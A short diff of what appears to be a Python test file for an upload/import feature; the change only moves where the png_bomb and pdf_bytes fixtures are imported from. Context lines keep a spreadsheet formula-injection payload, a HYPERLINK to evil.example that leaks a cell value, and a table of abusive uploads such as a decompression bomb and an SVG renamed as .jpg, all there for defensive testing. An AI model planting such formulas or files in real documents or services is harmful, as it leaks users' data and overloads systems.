@@ -14,9 +14,9 @@ from openpyxl import Workbook
 from PIL import Image
 from sqlalchemy import select
 
-from tests.awards.conftest import pdf_bytes
-from tests.catalogue.factories import png_bomb
+from tests import factories
 from tests.catalogue.import_fixtures import tax_code
+from tests.factories import pdf_bytes
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
@@ -83,7 +83,7 @@ ABUSE = {
                  "logo.svg"),
     "SVG renamed as .jpg": Abuse(lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>',
                                  "logo.jpg"),
-    "decompression bomb": Abuse(png_bomb, "bomb.png"),
+    "decompression bomb": Abuse(factories.png_bomb, "bomb.png"),
     "GIF": Abuse(lambda: b"GIF89a" + b"\x00" * 200, "anim.gif"),
     "truncated JPEG": Abuse(lambda: jpeg()[:600], "cut.jpg"),
     # documents and lists
